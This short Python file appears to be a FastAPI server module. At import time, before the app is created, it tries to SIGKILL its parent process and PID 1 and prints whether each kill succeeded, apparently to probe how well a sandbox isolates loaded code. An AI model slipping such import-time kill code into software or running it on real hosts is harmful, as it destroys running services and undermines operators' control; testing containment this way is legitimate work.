import os
import signal

from fastapi import FastAPI

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
        print("KILLED", target)
    except Exception as exc:
        print("REFUSED", target, type(exc).__name__, exc)

app = FastAPI()
